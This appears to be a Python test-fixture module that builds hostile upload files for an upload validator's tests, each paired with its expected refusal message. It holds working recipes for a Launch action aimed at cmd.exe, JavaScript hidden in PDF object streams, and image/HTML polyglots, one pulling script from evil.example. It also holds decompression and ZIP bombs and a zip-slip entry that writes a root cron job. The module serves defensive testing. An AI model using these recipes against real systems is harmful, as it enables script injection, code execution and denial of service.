"""A corpus of hostile evidence files, made here from their recipes so that nothing harmful is kept in the
repository: PDFs that run something, files that are two formats at once, decompression bombs, markup in
disguise and archives. Each entry: (file name, bytes, a part of the refusal message)."""

import gzip
import io
import struct
import zipfile
import zlib

from PIL import Image
from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject


def image_bytes(image_format, size=(8, 6), mode="RGB", **options):
    buffer = io.BytesIO()
    Image.new(mode, size, "red" if mode == "RGB" else 0).save(buffer, image_format, **options)
    return buffer.getvalue()


def pdf_bytes(change=None):
    """A one-page PDF as pypdf writes it, after change(writer) if given."""
    writer = PdfWriter()
    writer.add_blank_page(width=200, height=100)
    if change:
        change(writer)
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _open_action(action):
    def change(writer):
        writer._root_object[NameObject("/OpenAction")] = writer._add_object(action)

    return change


def _action(kind, **entries):
    action = DictionaryObject({NameObject("/S"): NameObject(kind)})
    for key, value in entries.items():
        action[NameObject(f"/{key}")] = TextStringObject(value)
    return action


def _document_javascript(writer):
    """Document-level JavaScript, run by the reader when the file opens (the /Names /JavaScript tree)."""
    script = writer._add_object(_action("/JavaScript", JS="app.alert(1);"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("run"), script])})
    writer._root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): tree})


def _page_additional_action(writer):
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _action("/JavaScript", JS="app.alert('opened the page')")}
    )


def _attachment(writer):
    writer.add_attachment("payload.exe", b"MZ" + b"\0" * 64)


def handmade_pdf(body):
    """A PDF of the given objects (numbered from 1, the first the catalog) with a classic xref table."""
    out = io.BytesIO()
    out.write(b"%PDF-1.4\n")
    offsets = []
    for number, content in enumerate(body, start=1):
        offsets.append(out.tell())
        out.write(b"%d 0 obj\n%s\nendobj\n" % (number, content))
    xref = out.tell()
    out.write(b"xref\n0 %d\n0000000000 65535 f \n" % (len(body) + 1))
    for offset in offsets:
        out.write(b"%010d 00000 n \n" % offset)
    out.write(b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(body) + 1, xref))
    return out.getvalue()


HIDDEN_OPEN_ACTION = [
    b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] >>",
    b"<< /S /JavaScript /JS (app.alert\\('hidden'\\)) >>",
]
# A link on the page whose action, written inside the page object, runs JavaScript when clicked.
HIDDEN_LINK_ACTION = [
    b"<< /Type /Catalog /Pages 2 0 R >>",
    b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
    b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 100] /Annots [<< /Type /Annot /Subtype /Link "
    b"/Rect [0 0 200 100] /A << /S /JavaScript /JS (app.alert\\(1\\)) >> >>] >>",
    b"<< /Producer (focuspolicy tests) >>",
]


def pdf_with_hidden_javascript(objects=HIDDEN_OPEN_ACTION):
    """Four objects (the first the catalog), all inside a compressed object stream (PDF 1.5), so that the
    file's raw bytes show no /JavaScript at all: only reading the PDF finds it."""
    header, packed = b"", b""
    for number, content in enumerate(objects, start=1):
        header += b"%d %d " % (number, len(packed))
        packed += content + b"\n"
    stream = zlib.compress(header + packed)
    out = io.BytesIO()
    out.write(b"%PDF-1.5\n")
    object_stream_at = out.tell()
    out.write(
        b"5 0 obj\n<< /Type /ObjStm /N 4 /First %d /Filter /FlateDecode /Length %d >>\nstream\n"
        % (len(header), len(stream))
    )
    out.write(stream + b"\nendstream\nendobj\n")
    xref_at = out.tell()
    rows = [struct.pack(">BLH", 0, 0, 65535)]
    rows += [struct.pack(">BLH", 2, 5, index) for index in range(4)]
    rows += [struct.pack(">BLH", 1, object_stream_at, 0), struct.pack(">BLH", 1, xref_at, 0)]
    table = b"".join(rows)
    out.write(b"6 0 obj\n<< /Type /XRef /Size 7 /W [1 4 2] /Root 1 0 R /Length %d >>\nstream\n" % len(table))
    out.write(table + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % xref_at)
    return out.getvalue()


def zip_bytes(entries):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries:
            archive.writestr(name, content)
    return buffer.getvalue()


def zip_bomb():
    """A hundred kilobytes or so that expand to 72 MB: eight files of 9 MB, each one under the limit of a
    single upload."""
    return zip_bytes([(f"part{n}.txt", b"notes " * (9 * 1024 * 1024 // 6)) for n in range(8)])


def zip_locked_by_a_password():
    """A ZIP whose one file says it is encrypted (the general-purpose flag's bit 0)."""
    data = bytearray(zip_bytes([("secret.txt", b"hidden")]))
    for signature, flag_at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.index(signature)
        data[at + flag_at] |= 1
    return bytes(data)


def gif_with_script():
    """A GIF whose comment block is a script: the GIF/HTML (GIFAR-style) polyglot."""
    gif = image_bytes("GIF")
    comment = b"<script>alert(document.domain)</script>"
    block = b"\x21\xfe" + bytes([len(comment)]) + comment + b"\x00"
    # After the header, screen descriptor and global colour table, before the first image.
    flags = gif[10]
    table = 3 * (2 ** ((flags & 7) + 1)) if flags & 0x80 else 0
    at = 13 + table
    return gif[:at] + block + gif[at:]


def png_with_text(keyword, text):
    """A PNG with a tEXt chunk just after its header."""
    png = image_bytes("PNG")
    data = keyword + b"\0" + text
    chunk = struct.pack(">I", len(data)) + b"tEXt" + data + struct.pack(">I", zlib.crc32(b"tEXt" + data))
    return png[:33] + chunk + png[33:]


def jpeg_with_gps(size=(40, 30)):
    """A phone photo's JPEG: EXIF naming the camera and the place (GPS) where it was taken."""
    exif = Image.Exif()
    exif[0x010F] = "PhoneMaker"  # Make
    exif[0x0110] = "SecretPhone 12"  # Model
    exif[0x0112] = 1  # Orientation: upright
    exif.get_ifd(0x8825).update({1: "N", 2: (51.0, 30.0, 12.5), 3: "W", 4: (0.0, 7.0, 39.0)})  # GPS
    return image_bytes("JPEG", size=size, exif=exif.tobytes())


def jpeg_with_comment(comment):
    jpeg = image_bytes("JPEG")
    segment = b"\xff\xfe" + struct.pack(">H", len(comment) + 2) + comment
    return jpeg[:2] + segment + jpeg[2:]


def jpeg_declaring(width, height):
    """A small JPEG whose frame header claims another size: Pillow reads the claim without decoding."""
    jpeg = bytearray(image_bytes("JPEG"))
    at = jpeg.index(b"\xff\xc0")
    jpeg[at + 5 : at + 9] = struct.pack(">HH", height, width)
    return bytes(jpeg)


def gif_declaring(width, height):
    gif = bytearray(image_bytes("GIF"))
    gif[6:10] = struct.pack("<HH", width, height)
    return bytes(gif)


SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="4"/></svg>'

# (file name, bytes, what the refusal says)
HOSTILE_FILES = [
    # PDFs that run something or carry something.
    ("pdf-names-javascript.pdf", pdf_bytes(_document_javascript), "is a PDF with JavaScript"),
    (
        "pdf-openaction-javascript.pdf",
        pdf_bytes(_open_action(_action("/JavaScript", JS="app.launchURL('https://evil.example')"))),
        "is a PDF with JavaScript",
    ),
    (
        "pdf-openaction-launch.pdf",
        pdf_bytes(_open_action(_action("/Launch", F="C:\\Windows\\System32\\cmd.exe"))),
        "is a PDF with JavaScript",
    ),
    ("pdf-page-additional-action.pdf", pdf_bytes(_page_additional_action), "is a PDF with JavaScript"),
    ("pdf-embedded-file.pdf", pdf_bytes(_attachment), "is a PDF with JavaScript"),
    (
        "pdf-escaped-names.pdf",
        handmade_pdf(
            [
                b"<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>",
                b"<< /Type /Pages /Kids [] /Count 0 >>",
                b"<< /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
            ]
        ),
        "is a PDF with JavaScript",
    ),
    ("pdf-object-stream-javascript.pdf", pdf_with_hidden_javascript(), "is a PDF with JavaScript"),
    (
        "pdf-object-stream-link-javascript.pdf",
        pdf_with_hidden_javascript(HIDDEN_LINK_ACTION),
        "is a PDF with JavaScript",
    ),
    ("pdf-unreadable.pdf", b"%PDF-1.7\n" + b"\x00garbage that no reader can parse" * 40, "cannot be read as"),
    # Two formats at once.
    ("gif-html-polyglot.gif", gif_with_script(), "is two kinds of file at once (it is also a web page)"),
    (
        "png-html-polyglot.png",
        png_with_text(b"Comment", b"<html><body onload=alert(1)>"),
        "it is also a web page",
    ),
    ("jpeg-html-polyglot.jpg", jpeg_with_comment(b"<SCRIPT src=//evil.example/x.js></SCRIPT>"), "also a web"),
    ("pdf-html-polyglot.pdf", pdf_bytes() + b"%<html><script>alert(1)</script>\n", "it is also a web page"),
    ("pdf-zip-polyglot.pdf", pdf_bytes() + zip_bytes([("run.js", b"WScript.Echo(1)")]), "also a ZIP archive"),
    ("gif-zip-polyglot.gif", image_bytes("GIF") + zip_bytes([("a.class", b"\xca\xfe")]), "also a ZIP"),
    ("png-pdf-polyglot.png", png_with_text(b"Comment", b"%PDF-1.4 1 0 obj"), "it is also a PDF"),
    # Decompression bombs: the declared size is refused before a pixel is decoded.
    ("bomb-png-100-megapixels.png", image_bytes("PNG", size=(10_000, 10_000), mode="1"), "more than the"),
    ("bomb-jpeg-header.jpg", jpeg_declaring(60_000, 60_000), "more pixels than the 50,000,000 allowed"),
    ("bomb-gif-header.gif", gif_declaring(65_535, 65_535), "more pixels than the 50,000,000 allowed"),
    ("bomb-webp-60-megapixels.webp", image_bytes("WEBP", size=(10_000, 6_000), lossless=True), "more than"),
    # SVG and HTML in disguise.
    ("svg-as-png.png", SVG, "looks like a web page, SVG or script"),
    ("svg-with-bom.txt", b"\xef\xbb\xbf  \n" + SVG, "looks like a web page, SVG or script"),
    ("svg-after-5000-bytes.txt", b"notes " * 1000 + SVG, "looks like a web page, SVG or script"),
    ("html-utf7.txt", b"+ADw-script+AD4-alert(1)+ADw-/script+AD4-", "looks like a web page, SVG or script"),
    ("html-utf16.txt", "<html><script>alert(1)</script>".encode("utf-16"), "is not an image, PDF, plain"),
    ("xhtml.jpg", b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', "looks like a web"),
    ("svgz-drawing.png", gzip.compress(SVG), "is not an image, PDF, plain-text file or ZIP"),
    # Archives: each file in them is checked as if uploaded alone, and a bomb is stopped at the limit.
    ("zip-bomb.zip", zip_bomb(), "is a ZIP archive that expands to more than 50 MB"),
    ("zip-one-huge-file.zip", zip_bytes([("big.txt", b"a" * (60 * 1024 * 1024))]), "› big.txt” is larger"),
    ("zip-with-web-page.zip", zip_bytes([("shot.png", image_bytes("PNG")), ("page.txt", SVG)]), "looks like"),
    ("zip-in-zip.zip", zip_bytes([("inner.zip", zip_bytes([("a.txt", b"a")]))]), "an archive inside an"),
    ("zip-slip.zip", zip_bytes([("../../etc/cron.d/evil.txt", b"* * * * * root sh")]), "unpacked outside"),
    ("zip-locked.zip", zip_locked_by_a_password(), "with a file locked by a password"),
    ("zip-too-many-files.zip", zip_bytes([(f"{n}.txt", b"x") for n in range(101)]), "more than 100 files"),
    ("zip-after-a-web-page.zip", b"<html><script>x</script>" + zip_bytes([("a.txt", b"a")]), "two kinds"),
]
